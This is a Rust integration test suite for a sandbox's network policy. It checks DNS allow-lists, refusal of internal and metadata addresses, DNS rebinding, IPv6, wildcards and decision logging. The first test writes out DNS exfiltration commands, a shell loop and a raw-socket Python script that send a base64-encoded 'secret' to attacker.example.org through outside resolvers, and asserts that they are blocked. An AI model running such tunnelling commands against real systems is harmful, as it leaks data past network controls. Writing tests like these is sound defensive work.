//! Names: who answers them, which ones leave, and what an answer is good for.

use atoll_proof::{Server, World, json};

use crate::{allow, assert_refused, get, log, sandbox, until_logged};

in_a_world!(
    only_allowed_names_leave_the_machine,
    a_name_that_leads_inside_is_refused,
    an_answer_that_changes_is_checked_again,
    names_work_over_ipv6_too,
    a_wildcard_covers_what_is_below_it,
    what_was_decided_is_logged_and_can_be_explained,
);

async fn only_allowed_names_leave_the_machine(server: &mut Server, world: &World) {
    let sandbox = sandbox(server, world, allow(&["api.example.org"])).await;
    let leak = "for i in $(seq 20); do getent hosts c2VjcmV0-$i.attacker.example.org; done; \
                getent hosts c2VjcmV0.api.example.org; getent hosts api.example.org.attacker.net; true";
    sandbox.sh(leak).await.ok();
    // Past the resolver that it was given: every address answers, and it is Atoll that does.
    let direct = "python3 - <<'END'
import socket, struct
def ask(name, kind, server):
    q = struct.pack('!6H', 7, 0x100, 1, 0, 0, 0) + b''.join(bytes([len(l)]) + l.encode() for l in name.split('.')) + b'\\0' + struct.pack('!2H', kind, 1)
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(5)
    s.sendto(q, (server, 53))
    return s.recv(2048)[3] & 15
for server in ('203.0.113.53', '8.8.8.8', '198.18.0.1'):
    for kind in (1, 28, 16, 15, 255):
        print(ask('c2VjcmV0.attacker.example.org', kind, server))
END";
    let codes = sandbox.sh(direct).await.ok();
    assert!(codes.lines().all(|code| code != "0"), "{codes}");
    assert!(world.asked().is_empty(), "{:?}", world.asked());
    sandbox.sh("getent hosts api.example.org").await.ok();
    assert!(world.asked().iter().all(|name| name == "api.example.org"));
    assert!(!world.asked().is_empty());
}

async fn a_name_that_leads_inside_is_refused(server: &mut Server, world: &World) {
    let names = [
        "internal.example.org",
        "meta.example.org",
        "mapped.example.org",
        "loop.example.org",
        "mixed.example.org",
    ];
    let sandbox = sandbox(server, world, allow(&names)).await;
    for name in &names[..4] {
        assert_refused(&sandbox, &format!("http://{name}/")).await;
        assert_refused(&sandbox, &format!("-k https://{name}/")).await;
    }
    // One good and one bad address: the bad one is never dialled.
    for _ in 0..4 {
        sandbox
            .sh("curl -s -m 10 http://mixed.example.org/; true")
            .await
            .ok();
    }
    assert!(world.saw("forbidden").is_empty());
}

async fn an_answer_that_changes_is_checked_again(server: &mut Server, world: &World) {
    let sandbox = sandbox(server, world, allow(&["rebind.example.org"])).await;
    // The world answers with a public address once, and with the metadata service's from then on, each for a second.
    let line = "for i in $(seq 8); do curl -s -m 5 http://rebind.example.org/; sleep 1; done; true";
    sandbox.sh(line).await.ok();
    assert!(world.saw("forbidden").is_empty());
    let denied = until_logged(&sandbox, "the refusal is logged", |fact| {
        fact["kind"] == "network.denied"
            && fact["data"]["rule"]
                .as_str()
                .unwrap_or_default()
                .starts_with("floor")
    })
    .await;
    assert_eq!(denied["data"]["host"], "rebind.example.org");
}

async fn names_work_over_ipv6_too(server: &mut Server, world: &World) {
    let sandbox = sandbox(server, world, allow(&["v6.example.org"])).await;
    assert_eq!(get(&sandbox, "https://v6.example.org/").await.0, 200);
    // From the inside over IPv6, to a name that leads to IPv6.
    assert_eq!(get(&sandbox, "-6 https://v6.example.org/").await.0, 200);
    assert!(world.saw("http").iter().all(|seen| seen["at"] == "2001:db8::10"));
    assert_refused(&sandbox, "-6 https://api.example.org/").await;
    assert_refused(&sandbox, "http://[2001:db8::10]/").await;
}

async fn a_wildcard_covers_what_is_below_it(server: &mut Server, world: &World) {
    let sandbox = sandbox(server, world, allow(&["*.wild.example.org"])).await;
    assert_eq!(get(&sandbox, "https://a.wild.example.org/").await.0, 200);
    assert_refused(&sandbox, "https://wild.example.org/").await;
    assert_refused(&sandbox, "https://awild.example.org/").await;
    assert!(
        world
            .asked()
            .iter()
            .all(|name| name.ends_with(".wild.example.org"))
    );
}

async fn what_was_decided_is_logged_and_can_be_explained(server: &mut Server, world: &World) {
    let policy = json!({"rules": [
        {"name": "the api", "action": "allow", "to": "api.example.org"},
        {"name": "not there", "action": "deny", "to": "other.example.org"},
    ]});
    let sandbox = sandbox(server, world, policy).await;
    assert_eq!(
        get(&sandbox, "https://api.example.org/secret/path?q=1").await.0,
        200
    );
    assert_refused(&sandbox, "https://other.example.org/").await;
    let allowed = until_logged(&sandbox, "an allow", |fact| {
        fact["kind"] == "network.allowed"
            && fact["data"]["host"] == "api.example.org"
            && fact["data"]["protocol"] == "tls"
    })
    .await;
    assert_eq!(allowed["data"]["rule"], "the api");
    let denied = until_logged(&sandbox, "a denial", |fact| {
        fact["kind"] == "network.denied" && fact["data"]["host"] == "other.example.org"
    })
    .await;
    assert_eq!(denied["data"]["rule"], "not there");
    let text = serde_json_text(&log(&sandbox).await);
    assert!(!text.contains("secret/path"), "{text}");

    let explain = |url: &'static str| {
        let path = sandbox.path("/network/explain");
        let client = sandbox.client.clone();
        async move { client.get_with(&path, &[("url", url)]).await.ok() }
    };
    let why = explain("https://api.example.org/x").await;
    assert_eq!(
        (&why["verdict"], &why["rule"]),
        (&json!("allowed"), &json!("the api"))
    );
    let why = explain("https://other.example.org/").await;
    assert_eq!(
        (&why["verdict"], &why["rule"]),
        (&json!("denied"), &json!("not there"))
    );
    let why = explain("http://169.254.169.254/").await;
    assert_eq!(why["verdict"], "denied");
    assert!(why["rule"].as_str().unwrap().starts_with("floor"), "{why}");
}

fn serde_json_text(facts: &[atoll_proof::Value]) -> String {
    json!(facts).to_string()
}
